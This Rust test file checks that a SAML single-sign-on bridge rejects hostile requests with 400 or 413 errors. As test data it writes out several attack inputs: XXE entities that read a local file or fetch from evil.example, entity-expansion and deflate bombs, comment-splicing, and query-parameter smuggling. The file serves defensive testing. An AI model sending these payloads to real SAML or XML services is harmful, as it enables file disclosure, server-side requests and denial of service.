//! Messages that are built to cost, to reach out, or to be read differently by two readers on the way.

use super::{bring, signed_in};
use crate::bridge::{
    Bridge, ZOOM,
    keys::zoom_key,
    request::{deflate, encode, post, redirect, redirect_deflated},
};

#[tokio::test]
async fn r03_r04_comments_instructions_and_document_types_are_refused() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let secret = bridge.folder.path().join("people.toml");
    let file = format!("file://{}", secret.display());
    for signed in [false, true] {
        let request = bridge.request();
        let xml = if signed {
            request.signed_xml(zoom_key())
        } else {
            request.xml()
        };
        let before = |what: &str| format!("{what}{xml}");
        let entity =
            |declaration: &str| format!("<!DOCTYPE r [{declaration}]>{}", xml.replace(ZOOM, "&x;"));
        for hostile in [
            xml.replace(ZOOM, "univ-montp3-fr.zoom.us<!-- -->.evil.example"),
            xml.replace(ZOOM, "univ-montp3-<!-- -->fr.zoom.us"),
            before("<!-- -->"),
            format!("{xml}<!-- -->"),
            xml.replace(ZOOM, "univ-montp3-<?x y?>fr.zoom.us"),
            before("<?xml-stylesheet href='https://evil.example/'?>"),
            before("<!DOCTYPE samlp:AuthnRequest>"),
            before("<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">"),
            entity(&format!("<!ENTITY x SYSTEM \"{file}\">")),
            entity(&format!("<!ENTITY x \"{ZOOM}\">")),
            entity("<!ENTITY % p SYSTEM \"https://evil.example/x\"> %p;"),
            entity("<!ENTITY a \"&b;&b;&b;\"><!ENTITY b \"ha\"><!ENTITY x \"&a;&a;&a;\">"),
            before("<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
        ] {
            let page = bring(&mut browser, &hostile).await;
            page.stops(400, "request-unreadable");
        }
        let utf16: Vec<u8> = [0xfeff]
            .into_iter()
            .chain(before("<!DOCTYPE x>").encode_utf16())
            .flat_map(u16::to_le_bytes)
            .collect();
        let page = browser
            .arrive_by_post("/saml/sso", &post(&utf16, None))
            .await;
        page.stops(400, "request-unreadable");
    }
    bridge.still_works().await;
}

#[tokio::test]
async fn r06_a_message_that_is_built_to_cost_is_refused_before_it_costs() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let request = bridge.request();
    let inside = |what: &str| {
        request.xml().replace(
            "</samlp:AuthnRequest>",
            &format!("{what}</samlp:AuthnRequest>"),
        )
    };
    let deep = format!("{}{}", "<a>".repeat(5_000), "</a>".repeat(5_000));
    let list =
        |number: u32, one: fn(u32) -> String| (0..number).map(one).collect::<Vec<_>>().concat();
    let attributes = list(5_000, |n| format!(" a{n}=\"\""));
    let namespaces = list(2_000, |n| format!(" xmlns:n{n}=\"u{n}\""));
    for xml in [
        inside(&deep),
        inside(&"<a/>".repeat(20_000)),
        inside(&format!("<a{attributes}/>")),
        inside(&format!("<a{namespaces}/>")),
        inside(&format!("<{}/>", "n".repeat(1_000))),
        request
            .clone()
            .with("ProviderName", &"x".repeat(100_000))
            .xml(),
    ] {
        let page = bring(&mut browser, &xml).await;
        page.stops(400, "request-too-large");
    }
    bridge.still_works().await;
}

#[tokio::test]
async fn r10_what_inflates_too_far_or_is_not_raw_deflate_is_refused() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let xml = bridge.request().xml();
    let bomb = deflate(&vec![b' '; 16 << 20]);
    assert!(bomb.len() < 17_000);
    let page = browser.arrive(&redirect_deflated(&bomb, None)).await;
    page.stops(400, "request-too-large");
    let padded = format!("{xml}{}", " ".repeat(70_000));
    let page = browser.arrive(&redirect(padded.as_bytes(), None)).await;
    page.stops(400, "request-too-large");
    let long = format!("/saml/sso?SAMLRequest={}", "A".repeat(33_000));
    browser.arrive(&long).await.stops(400, "request-too-large");
    let raw = deflate(xml.as_bytes());
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut zlib, xml.as_bytes()).unwrap();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut gzip, xml.as_bytes()).unwrap();
    for odd in [
        zlib.finish().unwrap(),
        gzip.finish().unwrap(),
        [raw.as_slice(), b"x"].concat(),
        raw.split_at(raw.len() - 4).0.to_vec(),
        xml.clone().into_bytes(),
        Vec::new(),
    ] {
        let page = browser.arrive(&redirect_deflated(&odd, None)).await;
        page.stops(400, "request-unreadable");
    }
    bridge.still_works().await;
}

#[tokio::test]
async fn r11_a_parameter_comes_once_in_its_own_spelling_or_not_at_all() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let good = bridge.request().redirect_signed(zoom_key(), Some("r"));
    let (_, query) = good.split_once('?').unwrap();
    let parts: Vec<&str> = query.split('&').collect();
    let [request, relay_state, algorithm, value] = parts.as_slice() else {
        panic!("{query}")
    };
    let evil = bridge.request().with("ForceAuthn", "false").redirect(None);
    let evil = evil.split_once('?').unwrap().1;
    for smuggled in [
        format!("{query}&{request}"),
        format!("{request}&{query}"),
        format!("{query}&{evil}"),
        format!("{evil}&{query}"),
        format!("{query}&RelayState=evil"),
        format!("RelayState=evil&{query}"),
        format!("{query}&{algorithm}"),
        format!("{query}&{value}"),
        format!("{query}&SAMLResponse=x"),
        format!("SAMLResponse=&{query}"),
        format!("{query}&%53AMLRequest=x"),
        format!("{query}&samlrequest=x"),
        format!("{query}&Relay%53tate=x"),
        format!("{query}&+SAMLRequest=x"),
        format!("{query};SAMLRequest=x"),
        format!("{query}&a=b;RelayState=x"),
        format!("{request}&{relay_state}&{algorithm}"),
        format!("{request}&{relay_state}&{value}"),
        format!("{request}&{relay_state}&{algorithm}&Signature="),
        format!("{request}&{relay_state}&{algorithm}&Signature=%"),
        format!("{request}&{relay_state}&{algorithm}&Signature=!!!!"),
        format!("{query}&SAMLEncoding=urn:x"),
        format!("{request}%&{relay_state}"),
        format!(
            "SAMLRequest={}",
            encode(&encode(request.split_once('=').unwrap().1))
        ),
        "SAMLRequest=".to_owned(),
        "SAMLRequest".to_owned(),
        "RelayState=r".to_owned(),
        "a=b".to_owned(),
        String::new(),
    ] {
        let page = browser.arrive(&format!("/saml/sso?{smuggled}")).await;
        assert_eq!(
            (page.status, page.kind().as_str()),
            (400, "stop"),
            "{smuggled}"
        );
        assert!(
            ["request-unreadable", "request-signature"].contains(&page.reason().as_str()),
            "{smuggled}: {}",
            page.reason()
        );
    }
    bridge.still_works().await;
}

#[tokio::test]
async fn r11_a_signature_covers_the_octets_as_they_came() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let good = bridge.request().redirect_signed(zoom_key(), Some("r"));
    let (_, query) = good.split_once('?').unwrap();
    for changed in [
        query.replace("&RelayState=r", ""),
        query.replace("&RelayState=r", "&RelayState="),
        query.replace("&RelayState=r", "&RelayState=s"),
        query.replace("&RelayState=r", "&RelayState=%72"),
        query.replace("http%3A", "http%3a"),
        query.replace("rsa%2Dsha256", "rsa-sha256"),
        query.replace("rsa%2Dsha256", "rsa%2Dsha512"),
        query.replace("rsa%2Dsha256", "hmac%2Dsha256"),
    ] {
        assert_ne!(changed, query);
        let page = browser.arrive(&format!("/saml/sso?{changed}")).await;
        page.stops(400, "request-signature");
    }
    // The order does not matter, and neither does a parameter of somebody else's.
    let mut parts: Vec<&str> = query.split('&').chain(["x=y"]).collect();
    parts.reverse();
    let shuffled = format!("/saml/sso?{}", parts.join("&"));
    browser.arrive(&shuffled).await.answer();
    bridge.still_works().await;
}

#[tokio::test]
async fn r11_query_and_form_never_meet() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let request = bridge.request();
    let query = request.redirect(Some("r"));
    // A POST whose request stands in the query has none.
    let page = browser.arrive_by_post(&query, "").await;
    page.stops(400, "request-unreadable");
    let page = browser.arrive_by_post(&query, "RelayState=x").await;
    page.stops(400, "request-unreadable");
    // What stands in the query beside a form is not read.
    let page = browser
        .arrive_by_post("/saml/sso?RelayState=evil", &request.post(None))
        .await;
    assert_eq!(page.answer().relay_state, None);
    // Signature parameters of the other binding beside a form.
    for extra in ["&SigAlg=x", "&Signature=x", "&SAMLEncoding=x"] {
        let form = format!("{}{extra}", bridge.request().post(None));
        let page = browser.arrive_by_post("/saml/sso", &form).await;
        page.stops(400, "request-unreadable");
    }
}

#[tokio::test]
async fn r122_a_body_that_is_too_large_or_no_form_is_refused() {
    use axum::{body::Body, http::Method};
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let large = post(&vec![b' '; 400 * 1024], None);
    let page = browser.arrive_by_post("/saml/sso", &large).await;
    page.stops(413, "request-too-large");
    let page = browser.arrive_by_post("/logout", &"x".repeat(2_000)).await;
    page.stops(400, "form-forged");
    let login = {
        let request = bridge.request().with("ForceAuthn", "true");
        browser.arrive(&request.redirect(None)).await
    };
    let form = login.filled("anne.dupont", &"x".repeat(40_000));
    browser
        .submit(&login, &form)
        .await
        .stops(413, "request-too-large");
    for (kind, body) in [
        ("text/plain", bridge.request().post(None).into_bytes()),
        ("multipart/form-data; boundary=x", b"--x--".to_vec()),
        ("application/json", b"{}".to_vec()),
        ("application/x-www-form-urlencoded", vec![0xff, 0xfe]),
    ] {
        let request = browser
            .plain("/saml/sso")
            .method(Method::POST)
            .header("content-type", kind)
            .body(Body::from(body))
            .unwrap();
        browser
            .exchange(request)
            .await
            .stops(400, "request-unreadable");
    }
    bridge.still_works().await;
}
